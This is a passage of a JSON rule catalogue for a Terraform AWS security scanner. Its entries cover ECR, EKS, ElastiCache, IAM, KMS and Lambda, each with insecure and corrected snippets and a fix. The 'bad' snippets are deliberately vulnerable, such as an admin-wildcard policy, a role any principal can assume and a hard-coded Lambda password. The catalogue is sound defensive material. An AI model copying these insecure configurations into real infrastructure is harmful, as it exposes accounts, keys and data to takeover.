      "good": "resource \"aws_ecr_repository_policy\" \"api\" {\n  repository = \"api\"\n  policy     = jsonencode({\n    Version   = \"2012-10-17\"\n    Statement = [{\n      Sid       = \"pull\"\n      Effect    = \"Allow\"\n      Principal = \"*\"\n      Action    = [\"ecr:BatchGetImage\", \"ecr:GetDownloadUrlForLayer\"]\n      Condition = { StringEquals = { \"aws:PrincipalOrgID\" = \"o-a1b2c3d4e5\" } }\n    }]\n  })\n}\n",
      "fix": "Name the accounts or roles that may pull, or restrict the wildcard with an `aws:PrincipalOrgID` condition; publish public images in ECR Public instead."
    },
    "references": [
      "https://docs.aws.amazon.com/AmazonECR/latest/userguide/repository-policies.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/ecr_repository_policy"
    ],
    "checkov": [
      "CKV_AWS_32"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:ecr",
      "owasp:A01:2021"
    ]
  },
  {
    "id": "iac/aws-ecr-scan-on-push-disabled",
    "title": "ECR repository does not scan images on push",
    "severity": "low",
    "cwe": [
      "CWE-1104"
    ],
    "description": "Scanning on push reports known vulnerabilities (CVEs) in the OS packages of every image as it is pushed. `image_scanning_configuration.scan_on_push` defaults to `false`. Repositories in a project that configures registry-level scanning (`aws_ecr_registry_scanning_configuration`, for example Amazon Inspector enhanced scanning) are not flagged.",
    "help": {
      "bad": "resource \"aws_ecr_repository\" \"api\" {\n  name                 = \"api\"\n  image_tag_mutability = \"IMMUTABLE\"\n}\n",
      "good": "resource \"aws_ecr_repository\" \"api\" {\n  name                 = \"api\"\n  image_tag_mutability = \"IMMUTABLE\"\n\n  image_scanning_configuration {\n    scan_on_push = true\n  }\n}\n",
      "fix": "Add `image_scanning_configuration { scan_on_push = true }`, or configure enhanced scanning for the registry."
    },
    "references": [
      "https://docs.aws.amazon.com/AmazonECR/latest/userguide/image-scanning.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/ecr_repository#image_scanning_configuration"
    ],
    "checkov": [
      "CKV_AWS_163"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:ecr",
      "owasp:A06:2021"
    ]
  },
  {
    "id": "iac/aws-ecr-tags-mutable",
    "title": "ECR repository allows image tags to be overwritten",
    "severity": "low",
    "cwe": [
      "CWE-494"
    ],
    "description": "With mutable tags (`image_tag_mutability = \"MUTABLE\"`, the default), anyone allowed to push can replace the image behind `v1.2.3` or `prod`, and every deployment that pulls by tag silently runs the new image. Immutable tags make a tag always mean the same image.",
    "help": {
      "bad": "resource \"aws_ecr_repository\" \"api\" {\n  name = \"api\"\n\n  image_scanning_configuration {\n    scan_on_push = true\n  }\n}\n",
      "good": "resource \"aws_ecr_repository\" \"api\" {\n  name                 = \"api\"\n  image_tag_mutability = \"IMMUTABLE\"\n\n  image_scanning_configuration {\n    scan_on_push = true\n  }\n}\n",
      "fix": "Set `image_tag_mutability = \"IMMUTABLE\"` (or `IMMUTABLE_WITH_EXCLUSION` for a few moving tags such as `latest`), and deploy by digest."
    },
    "references": [
      "https://docs.aws.amazon.com/AmazonECR/latest/userguide/image-tag-mutability.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/ecr_repository#image_tag_mutability"
    ],
    "checkov": [
      "CKV_AWS_51"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:ecr",
      "owasp:A08:2021"
    ]
  },
  {
    "id": "iac/aws-efs-not-encrypted",
    "title": "EFS file system is not encrypted at rest",
    "severity": "medium",
    "cwe": [
      "CWE-311"
    ],
    "description": "`aws_efs_file_system` is created unencrypted unless `encrypted = true` (the console default is on, the API default is off), and encryption at rest cannot be added to an existing file system.",
    "help": {
      "bad": "resource \"aws_efs_file_system\" \"shared\" {\n  creation_token = \"shared\"\n}\n",
      "good": "resource \"aws_efs_file_system\" \"shared\" {\n  creation_token = \"shared\"\n  encrypted      = true\n}\n",
      "fix": "Set `encrypted = true` (optionally with `kms_key_id`); migrate existing data to a new encrypted file system."
    },
    "references": [
      "https://docs.aws.amazon.com/efs/latest/ug/encryption-at-rest.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/efs_file_system#encrypted"
    ],
    "checkov": [
      "CKV_AWS_42"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:efs",
      "owasp:A02:2021"
    ]
  },
  {
    "id": "iac/aws-eks-audit-logging-disabled",
    "title": "EKS control plane audit logging is not enabled",
    "severity": "low",
    "cwe": [
      "CWE-778"
    ],
    "description": "EKS sends no control plane logs unless `enabled_cluster_log_types` lists them. The `audit` log records who did what through the Kubernetes API (reading secrets, creating privileged pods, changing RBAC) and `authenticator` maps those requests to IAM identities; without them an intrusion into the cluster leaves no trace.",
    "help": {
      "bad": "resource \"aws_eks_cluster\" \"main\" {\n  name     = \"main\"\n  role_arn = \"arn:aws:iam::111122223333:role/eks-cluster\"\n\n  vpc_config {\n    subnet_ids             = [\"subnet-0123456789abcdef0\", \"subnet-0fedcba9876543210\"]\n    endpoint_public_access = false\n  }\n}\n",
      "good": "resource \"aws_eks_cluster\" \"main\" {\n  name                      = \"main\"\n  role_arn                  = \"arn:aws:iam::111122223333:role/eks-cluster\"\n  enabled_cluster_log_types = [\"api\", \"audit\", \"authenticator\"]\n\n  vpc_config {\n    subnet_ids             = [\"subnet-0123456789abcdef0\", \"subnet-0fedcba9876543210\"]\n    endpoint_public_access = false\n  }\n}\n",
      "fix": "Set `enabled_cluster_log_types` to include at least `audit` and `authenticator` (all five types for full coverage)."
    },
    "references": [
      "https://docs.aws.amazon.com/eks/latest/userguide/control-plane-logs.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/eks_cluster#enabled_cluster_log_types"
    ],
    "checkov": [
      "CKV_AWS_37"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:eks",
      "owasp:A09:2021"
    ]
  },
  {
    "id": "iac/aws-eks-public-endpoint",
    "title": "EKS cluster API endpoint is open to the internet",
    "severity": "medium",
    "cwe": [
      "CWE-284"
    ],
    "description": "By default the Kubernetes API server of an EKS cluster is reachable from any IP address (`endpoint_public_access = true`, `public_access_cidrs = [\"0.0.0.0/0\"]`), so a leaked kubeconfig token or an API server vulnerability can be exploited from anywhere. An empty `public_access_cidrs` also means everywhere. Not flagged when the public endpoint is disabled or limited to specific CIDR ranges.",
    "help": {
      "bad": "resource \"aws_eks_cluster\" \"main\" {\n  name     = \"main\"\n  role_arn = \"arn:aws:iam::111122223333:role/eks-cluster\"\n\n  vpc_config {\n    subnet_ids = [\"subnet-0123456789abcdef0\", \"subnet-0fedcba9876543210\"]\n  }\n}\n",
      "good": "resource \"aws_eks_cluster\" \"main\" {\n  name     = \"main\"\n  role_arn = \"arn:aws:iam::111122223333:role/eks-cluster\"\n\n  vpc_config {\n    subnet_ids              = [\"subnet-0123456789abcdef0\", \"subnet-0fedcba9876543210\"]\n    endpoint_private_access = true\n    endpoint_public_access  = false\n  }\n}\n",
      "fix": "Set `endpoint_public_access = false` and reach the API through the VPC (VPN, bastion), or limit `public_access_cidrs` to your office or CI ranges."
    },
    "references": [
      "https://docs.aws.amazon.com/eks/latest/userguide/cluster-endpoint.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/eks_cluster#vpc_config"
    ],
    "checkov": [
      "CKV_AWS_38",
      "CKV_AWS_39"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:eks",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/aws-eks-secrets-not-encrypted",
    "title": "EKS cluster does not encrypt Kubernetes secrets with a KMS key",
    "severity": "low",
    "cwe": [
      "CWE-311"
    ],
    "description": "An `encryption_config` with `resources = [\"secrets\"]` envelope-encrypts Kubernetes Secrets in etcd with a customer managed KMS key, whose policy then controls who can read them and whose use is logged. Recent EKS versions encrypt all API data with an AWS owned key by default, hence the low severity.",
    "help": {
      "bad": "resource \"aws_eks_cluster\" \"main\" {\n  name     = \"main\"\n  role_arn = \"arn:aws:iam::111122223333:role/eks-cluster\"\n\n  vpc_config {\n    subnet_ids             = [\"subnet-0123456789abcdef0\", \"subnet-0fedcba9876543210\"]\n    endpoint_public_access = false\n  }\n}\n",
      "good": "resource \"aws_eks_cluster\" \"main\" {\n  name     = \"main\"\n  role_arn = \"arn:aws:iam::111122223333:role/eks-cluster\"\n\n  vpc_config {\n    subnet_ids             = [\"subnet-0123456789abcdef0\", \"subnet-0fedcba9876543210\"]\n    endpoint_public_access = false\n  }\n\n  encryption_config {\n    resources = [\"secrets\"]\n    provider {\n      key_arn = \"arn:aws:kms:eu-west-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab\"\n    }\n  }\n}\n",
      "fix": "Add `encryption_config { resources = [\"secrets\"] provider { key_arn = <KMS key ARN> } }`."
    },
    "references": [
      "https://docs.aws.amazon.com/eks/latest/userguide/envelope-encryption.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/eks_cluster#encryption_config"
    ],
    "checkov": [
      "CKV_AWS_58"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:eks",
      "owasp:A02:2021"
    ]
  },
  {
    "id": "iac/aws-elasticache-no-auth",
    "title": "ElastiCache replication group requires no authentication",
    "severity": "low",
    "cwe": [
      "CWE-306"
    ],
    "description": "A replication group with in-transit encryption but neither an `auth_token` (Redis AUTH) nor `user_group_ids` (RBAC) accepts commands from any client that can reach it on the network, so network controls are the only protection of the data. Groups without in-transit encryption are reported by `iac/aws-elasticache-not-encrypted-in-transit` (AUTH requires it).",
    "help": {
      "bad": "resource \"aws_elasticache_replication_group\" \"sessions\" {\n  replication_group_id       = \"sessions\"\n  description                = \"session store\"\n  node_type                  = \"cache.t4g.small\"\n  num_cache_clusters         = 2\n  at_rest_encryption_enabled = true\n  transit_encryption_enabled = true\n}\n",
      "good": "resource \"aws_elasticache_replication_group\" \"sessions\" {\n  replication_group_id       = \"sessions\"\n  description                = \"session store\"\n  node_type                  = \"cache.t4g.small\"\n  num_cache_clusters         = 2\n  at_rest_encryption_enabled = true\n  transit_encryption_enabled = true\n  user_group_ids             = [\"sessions-users\"]\n}\n",
      "fix": "Use RBAC (`user_group_ids` with `aws_elasticache_user_group`) or set `auth_token` from a secret store (never a literal)."
    },
    "references": [
      "https://docs.aws.amazon.com/AmazonElastiCache/latest/dg/auth.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/elasticache_replication_group#auth_token"
    ],
    "checkov": [
      "CKV_AWS_31"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:elasticache",
      "owasp:A07:2021"
    ]
  },
  {
    "id": "iac/aws-elasticache-not-encrypted-at-rest",
    "title": "ElastiCache replication group is not encrypted at rest",
    "severity": "medium",
    "cwe": [
      "CWE-311"
    ],
    "description": "For Redis OSS, `aws_elasticache_replication_group` stores data, swap and backups unencrypted unless `at_rest_encryption_enabled = true`, and the setting cannot be changed after creation. Valkey replication groups are encrypted by default and are only flagged when they turn it off explicitly.",
    "help": {
      "bad": "resource \"aws_elasticache_replication_group\" \"sessions\" {\n  replication_group_id       = \"sessions\"\n  description                = \"session store\"\n  engine                     = \"redis\"\n  node_type                  = \"cache.t4g.small\"\n  num_cache_clusters         = 2\n  transit_encryption_enabled = true\n}\n",
      "good": "resource \"aws_elasticache_replication_group\" \"sessions\" {\n  replication_group_id       = \"sessions\"\n  description                = \"session store\"\n  engine                     = \"redis\"\n  node_type                  = \"cache.t4g.small\"\n  num_cache_clusters         = 2\n  transit_encryption_enabled = true\n  at_rest_encryption_enabled = true\n}\n",
      "fix": "Set `at_rest_encryption_enabled = true` (with `kms_key_id` for a customer managed key); existing groups must be recreated."
    },
    "references": [
      "https://docs.aws.amazon.com/AmazonElastiCache/latest/dg/at-rest-encryption.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/elasticache_replication_group#at_rest_encryption_enabled"
    ],
    "checkov": [
      "CKV_AWS_29"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:elasticache",
      "owasp:A02:2021"
    ]
  },
  {
    "id": "iac/aws-elasticache-not-encrypted-in-transit",
    "title": "ElastiCache replication group does not encrypt traffic",
    "severity": "medium",
    "cwe": [
      "CWE-319"
    ],
    "description": "Without `transit_encryption_enabled = true`, clients talk to the cache (and nodes replicate) in clear text, so cached sessions, tokens and personal data can be read or altered by anyone on the network path. It is also a prerequisite for AUTH tokens and RBAC.",
    "help": {
      "bad": "resource \"aws_elasticache_replication_group\" \"sessions\" {\n  replication_group_id       = \"sessions\"\n  description                = \"session store\"\n  node_type                  = \"cache.t4g.small\"\n  num_cache_clusters         = 2\n  at_rest_encryption_enabled = true\n  transit_encryption_enabled = false\n}\n",
      "good": "resource \"aws_elasticache_replication_group\" \"sessions\" {\n  replication_group_id       = \"sessions\"\n  description                = \"session store\"\n  node_type                  = \"cache.t4g.small\"\n  num_cache_clusters         = 2\n  at_rest_encryption_enabled = true\n  transit_encryption_enabled = true\n}\n",
      "fix": "Set `transit_encryption_enabled = true` and have clients connect with TLS."
    },
    "references": [
      "https://docs.aws.amazon.com/AmazonElastiCache/latest/dg/in-transit-encryption.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/elasticache_replication_group#transit_encryption_enabled"
    ],
    "checkov": [
      "CKV_AWS_30"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:elasticache",
      "owasp:A02:2021"
    ]
  },
  {
    "id": "iac/aws-iam-password-policy-reuse",
    "title": "IAM password policy allows password reuse",
    "severity": "low",
    "cwe": [
      "CWE-521"
    ],
    "description": "Without `password_reuse_prevention`, users can cycle back to a password that has already leaked. CIS AWS Foundations asks to remember the last 24 passwords (the maximum).",
    "help": {
      "bad": "resource \"aws_iam_account_password_policy\" \"strict\" {\n  minimum_password_length = 14\n}\n",
      "good": "resource \"aws_iam_account_password_policy\" \"strict\" {\n  minimum_password_length   = 14\n  password_reuse_prevention = 24\n}\n",
      "fix": "Set `password_reuse_prevention = 24`."
    },
    "references": [
      "https://docs.aws.amazon.com/IAM/latest/UserGuide/id_credentials_passwords_account-policy.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/iam_account_password_policy"
    ],
    "checkov": [
      "CKV_AWS_13"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:iam",
      "owasp:A07:2021"
    ]
  },
  {
    "id": "iac/aws-iam-password-policy-short",
    "title": "IAM password policy allows passwords shorter than 14 characters",
    "severity": "medium",
    "cwe": [
      "CWE-521"
    ],
    "description": "Length is what makes a password hard to guess. `aws_iam_account_password_policy` defaults `minimum_password_length` to 6 characters; CIS AWS Foundations asks for at least 14.",
    "help": {
      "bad": "resource \"aws_iam_account_password_policy\" \"strict\" {\n  minimum_password_length   = 8\n  password_reuse_prevention = 24\n}\n",
      "good": "resource \"aws_iam_account_password_policy\" \"strict\" {\n  minimum_password_length   = 14\n  password_reuse_prevention = 24\n}\n",
      "fix": "Set `minimum_password_length = 14` or more; prefer IAM Identity Center with MFA over IAM user passwords."
    },
    "references": [
      "https://docs.aws.amazon.com/IAM/latest/UserGuide/id_credentials_passwords_account-policy.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/iam_account_password_policy"
    ],
    "checkov": [
      "CKV_AWS_10"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:iam",
      "owasp:A07:2021"
    ]
  },
  {
    "id": "iac/aws-iam-password-policy-weak-complexity",
    "title": "IAM password policy does not require character classes",
    "severity": "low",
    "cwe": [
      "CWE-521"
    ],
    "description": "CIS AWS Foundations (v1.x) asks the IAM password policy to require lowercase and uppercase letters, numbers and symbols; each `require_*` setting of `aws_iam_account_password_policy` defaults to `false`. Length matters more than composition (see `iac/aws-iam-password-policy-short`), hence the low severity. One finding per policy: on the first setting written as `false`, else on the resource.",
    "help": {
      "bad": "resource \"aws_iam_account_password_policy\" \"strict\" {\n  minimum_password_length = 14\n  require_symbols         = false\n}\n",
      "good": "resource \"aws_iam_account_password_policy\" \"strict\" {\n  minimum_password_length      = 14\n  require_lowercase_characters = true\n  require_uppercase_characters = true\n  require_numbers              = true\n  require_symbols              = true\n}\n",
      "fix": "Set `require_lowercase_characters`, `require_uppercase_characters`, `require_numbers` and `require_symbols` to `true`."
    },
    "references": [
      "https://docs.aws.amazon.com/IAM/latest/UserGuide/id_credentials_passwords_account-policy.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/iam_account_password_policy"
    ],
    "checkov": [
      "CKV_AWS_11",
      "CKV_AWS_12",
      "CKV_AWS_14",
      "CKV_AWS_15"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:iam",
      "owasp:A07:2021"
    ]
  },
  {
    "id": "iac/aws-iam-policy-admin",
    "title": "IAM policy grants full administrative access",
    "severity": "high",
    "cwe": [
      "CWE-269"
    ],
    "description": "A statement that allows `Action = \"*\"` on `Resource = \"*\"` gives its holder every permission in the account, including creating users and keys, so one leaked credential or compromised workload owns the account. Policies are read from `aws_iam_policy`, `aws_iam_role_policy`, `aws_iam_user_policy`, `aws_iam_group_policy`, role `inline_policy` blocks (JSON or `jsonencode(...)`) and `aws_iam_policy_document` data sources that are not used only as resource, trust or organization policies.",
    "help": {
      "bad": "resource \"aws_iam_policy\" \"deploy\" {\n  name   = \"deploy\"\n  policy = jsonencode({\n    Version   = \"2012-10-17\"\n    Statement = [{\n      Effect   = \"Allow\"\n      Action   = \"*\"\n      Resource = \"*\"\n    }]\n  })\n}\n",
      "good": "resource \"aws_iam_policy\" \"deploy\" {\n  name   = \"deploy\"\n  policy = jsonencode({\n    Version   = \"2012-10-17\"\n    Statement = [{\n      Effect   = \"Allow\"\n      Action   = [\"s3:PutObject\", \"s3:GetObject\"]\n      Resource = \"arn:aws:s3:::example-artifacts/*\"\n    }]\n  })\n}\n",
      "fix": "Grant only the actions and resources the principal needs; generate a policy from CloudTrail activity with IAM Access Analyzer."
    },
    "references": [
      "https://docs.aws.amazon.com/IAM/latest/UserGuide/best-practices.html#grant-least-privilege",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/iam_policy"
    ],
    "checkov": [
      "CKV_AWS_1",
      "CKV_AWS_62"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:iam",
      "owasp:A01:2021"
    ]
  },
  {
    "id": "iac/aws-iam-policy-attached-to-user",
    "title": "IAM policy is attached directly to a user",
    "severity": "low",
    "cwe": [
      "CWE-269"
    ],
    "description": "Permissions attached to individual users (`aws_iam_user_policy`, `aws_iam_user_policy_attachment`, `users` of `aws_iam_policy_attachment`) are hard to review and tend to outlive the need for them. Granting permissions through groups or roles keeps access consistent and easy to revoke; long-lived IAM users are best replaced by IAM Identity Center or roles altogether.",
    "help": {
      "bad": "resource \"aws_iam_user_policy_attachment\" \"alice_read\" {\n  user       = \"alice\"\n  policy_arn = \"arn:aws:iam::aws:policy/ReadOnlyAccess\"\n}\n",
      "good": "resource \"aws_iam_group_policy_attachment\" \"readers\" {\n  group      = \"readers\"\n  policy_arn = \"arn:aws:iam::aws:policy/ReadOnlyAccess\"\n}\n",
      "fix": "Attach the policy to a group (and add the user to it) or to a role the user assumes."
    },
    "references": [
      "https://docs.aws.amazon.com/IAM/latest/UserGuide/best-practices.html#use-groups-for-permissions",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/iam_user_policy_attachment"
    ],
    "checkov": [
      "CKV_AWS_40"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:iam",
      "owasp:A01:2021"
    ]
  },
  {
    "id": "iac/aws-iam-policy-passrole-any-resource",
    "title": "IAM policy allows iam:PassRole on any role",
    "severity": "high",
    "cwe": [
      "CWE-269"
    ],
    "description": "`iam:PassRole` on `Resource = \"*\"` lets the holder hand any role in the account, including administrator roles, to a service they control (a Lambda function, an EC2 instance, a Glue job) and then act with that role: a classic privilege escalation path. Statements whose actions are `*` or `iam:*` are reported by `iac/aws-iam-policy-admin` and `iac/aws-iam-policy-service-wildcard` instead.",
    "help": {
      "bad": "data \"aws_iam_policy_document\" \"ci\" {\n  statement {\n    actions   = [\"lambda:UpdateFunctionConfiguration\", \"iam:PassRole\"]\n    resources = [\"*\"]\n  }\n}\n",
      "good": "data \"aws_iam_policy_document\" \"ci\" {\n  statement {\n    actions   = [\"lambda:UpdateFunctionConfiguration\"]\n    resources = [\"arn:aws:lambda:eu-west-1:111122223333:function:app\"]\n  }\n\n  statement {\n    actions   = [\"iam:PassRole\"]\n    resources = [\"arn:aws:iam::111122223333:role/app-lambda\"]\n\n    condition {\n      test     = \"StringEquals\"\n      variable = \"iam:PassedToService\"\n      values   = [\"lambda.amazonaws.com\"]\n    }\n  }\n}\n",
      "fix": "Limit `iam:PassRole` to the ARNs of the roles the principal must pass, and add an `iam:PassedToService` condition."
    },
    "references": [
      "https://docs.aws.amazon.com/IAM/latest/UserGuide/id_roles_use_passrole.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/iam_policy"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:iam",
      "owasp:A01:2021"
    ]
  },
  {
    "id": "iac/aws-iam-policy-service-wildcard",
    "title": "IAM policy allows every action of a sensitive service on all resources",
    "severity": "medium",
    "cwe": [
      "CWE-269"
    ],
    "description": "A statement such as `Action = \"iam:*\"` or `\"kms:*\"` with `Resource = \"*\"` grants every present and future action of the service on every resource: `iam:*` and `sts:*` allow privilege escalation, `kms:*`, `secretsmanager:*`, `ssm:*`, `s3:*` and `dynamodb:*` expose every key, secret and data set, `ec2:*` and `lambda:*` allow running code with any attached role. Statements with `Action = \"*\"` are reported by `iac/aws-iam-policy-admin`.",
    "help": {
      "bad": "resource \"aws_iam_role_policy\" \"app\" {\n  name   = \"app\"\n  role   = \"app\"\n  policy = jsonencode({\n    Version   = \"2012-10-17\"\n    Statement = [{\n      Effect   = \"Allow\"\n      Action   = \"secretsmanager:*\"\n      Resource = \"*\"\n    }]\n  })\n}\n",
      "good": "resource \"aws_iam_role_policy\" \"app\" {\n  name   = \"app\"\n  role   = \"app\"\n  policy = jsonencode({\n    Version   = \"2012-10-17\"\n    Statement = [{\n      Effect   = \"Allow\"\n      Action   = \"secretsmanager:GetSecretValue\"\n      Resource = \"arn:aws:secretsmanager:eu-west-1:111122223333:secret:app/*\"\n    }]\n  })\n}\n",
      "fix": "List the specific actions needed and scope `Resource` to the ARNs the principal works on."
    },
    "references": [
      "https://docs.aws.amazon.com/IAM/latest/UserGuide/best-practices.html#grant-least-privilege",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/iam_role_policy"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:iam",
      "owasp:A01:2021"
    ]
  },
  {
    "id": "iac/aws-iam-role-trust-any-principal",
    "title": "IAM role can be assumed by any AWS principal",
    "severity": "critical",
    "cwe": [
      "CWE-284"
    ],
    "description": "A trust policy (`assume_role_policy`) that allows `Principal = {\"AWS\": \"*\"}` (or `\"*\"`) without a condition such as `sts:ExternalId`, `aws:PrincipalOrgID` or `aws:PrincipalAccount` lets an identity in any AWS account assume the role and use its permissions.",
    "help": {
      "bad": "resource \"aws_iam_role\" \"integration\" {\n  name               = \"integration\"\n  assume_role_policy = jsonencode({\n    Version   = \"2012-10-17\"\n    Statement = [{\n      Effect    = \"Allow\"\n      Action    = \"sts:AssumeRole\"\n      Principal = { AWS = \"*\" }\n    }]\n  })\n}\n",
      "good": "resource \"aws_iam_role\" \"integration\" {\n  name               = \"integration\"\n  assume_role_policy = jsonencode({\n    Version   = \"2012-10-17\"\n    Statement = [{\n      Effect    = \"Allow\"\n      Action    = \"sts:AssumeRole\"\n      Principal = { AWS = \"arn:aws:iam::444455556666:root\" }\n      Condition = { StringEquals = { \"sts:ExternalId\" = \"c0ffee-partner\" } }\n    }]\n  })\n}\n",
      "fix": "Name the trusted account or role ARNs in `Principal`, and add `sts:ExternalId` for third parties."
    },
    "references": [
      "https://docs.aws.amazon.com/IAM/latest/UserGuide/id_roles_create_for-user_externalid.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/iam_role"
    ],
    "checkov": [
      "CKV_AWS_60"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:iam",
      "owasp:A01:2021"
    ]
  },
  {
    "id": "iac/aws-kms-key-policy-public",
    "title": "KMS key policy allows any principal",
    "severity": "high",
    "cwe": [
      "CWE-732"
    ],
    "description": "A key policy statement that allows `Principal = \"*\"` (or `{\"AWS\": \"*\"}`) without a condition such as `kms:CallerAccount`, `kms:ViaService` or `aws:PrincipalOrgID` lets identities in any AWS account use or manage the key, and so decrypt everything it protects. Read from `aws_kms_key.policy` and `aws_kms_key_policy`, as JSON, `jsonencode(...)` or `aws_iam_policy_document`.",
    "help": {
      "bad": "resource \"aws_kms_key\" \"data\" {\n  description         = \"application data\"\n  enable_key_rotation = true\n  policy              = jsonencode({\n    Version   = \"2012-10-17\"\n    Statement = [{\n      Effect    = \"Allow\"\n      Principal = { AWS = \"*\" }\n      Action    = \"kms:*\"\n      Resource  = \"*\"\n    }]\n  })\n}\n",
      "good": "resource \"aws_kms_key\" \"data\" {\n  description         = \"application data\"\n  enable_key_rotation = true\n  policy              = jsonencode({\n    Version   = \"2012-10-17\"\n    Statement = [{\n      Effect    = \"Allow\"\n      Principal = { AWS = \"arn:aws:iam::111122223333:root\" }\n      Action    = \"kms:*\"\n      Resource  = \"*\"\n    }]\n  })\n}\n",
      "fix": "Name the account root or specific roles as principals, or add a `kms:CallerAccount` / `aws:PrincipalOrgID` condition to wildcard statements."
    },
    "references": [
      "https://docs.aws.amazon.com/kms/latest/developerguide/key-policy-overview.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/kms_key#policy"
    ],
    "checkov": [
      "CKV_AWS_33"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:kms",
      "owasp:A01:2021"
    ]
  },
  {
    "id": "iac/aws-kms-key-rotation-disabled",
    "title": "KMS key rotation is not enabled",
    "severity": "medium",
    "cwe": [
      "CWE-324"
    ],
    "description": "Automatic rotation gives a customer managed key new key material every year (or the configured period) while old ciphertext stays readable, limiting how much data one compromised key version protects. `enable_key_rotation` defaults to `false`. Only symmetric encryption keys support rotation: asymmetric and HMAC keys (`customer_master_key_spec` other than `SYMMETRIC_DEFAULT`, `key_usage` other than `ENCRYPT_DECRYPT`) are skipped.",
    "help": {
      "bad": "resource \"aws_kms_key\" \"data\" {\n  description = \"application data\"\n}\n",
      "good": "resource \"aws_kms_key\" \"data\" {\n  description         = \"application data\"\n  enable_key_rotation = true\n}\n",
      "fix": "Set `enable_key_rotation = true` (optionally with `rotation_period_in_days`)."
    },
    "references": [
      "https://docs.aws.amazon.com/kms/latest/developerguide/rotate-keys.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/kms_key#enable_key_rotation"
    ],
    "checkov": [
      "CKV_AWS_7"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:kms",
      "owasp:A02:2021"
    ]
  },
  {
    "id": "iac/aws-lambda-environment-secrets",
    "title": "Lambda environment variable holds a hard-coded secret",
    "severity": "high",
    "cwe": [
      "CWE-798"
    ],
    "description": "Environment variables of `aws_lambda_function` are stored in the Terraform state and the repository, and are visible to anyone allowed `lambda:GetFunctionConfiguration`. A literal value for a variable named like a secret (`*PASSWORD*`, `*SECRET*`, `*TOKEN*`, `*API_KEY*`, ...) or any value holding an AWS access key ID is a leaked credential. Values that reference a secret store (ARNs, SSM parameter names) and values that cannot be known (resource attributes, variables without defaults) are not flagged.",
    "help": {
      "bad": "resource \"aws_lambda_function\" \"api\" {\n  function_name = \"api\"\n  role          = \"arn:aws:iam::111122223333:role/api-lambda\"\n  runtime       = \"python3.12\"\n  handler       = \"app.handler\"\n  filename      = \"api.zip\"\n\n  environment {\n    variables = {\n      DB_HOST     = \"db.internal.example.com\"\n      DB_PASSWORD = \"s3cr3t-Passw0rd!\"\n    }\n  }\n}\n",
      "good": "resource \"aws_lambda_function\" \"api\" {\n  function_name = \"api\"\n  role          = \"arn:aws:iam::111122223333:role/api-lambda\"\n  runtime       = \"python3.12\"\n  handler       = \"app.handler\"\n  filename      = \"api.zip\"\n\n  environment {\n    variables = {\n      DB_HOST       = \"db.internal.example.com\"\n      DB_SECRET_ARN = \"arn:aws:secretsmanager:eu-west-1:111122223333:secret:api/db-AbCdEf\"\n    }\n  }\n}\n",
      "fix": "Store the secret in Secrets Manager or SSM Parameter Store (SecureString), pass its ARN or name, and read it at run time (for example with the Parameters and Secrets Lambda extension). Rotate the exposed value."
    },
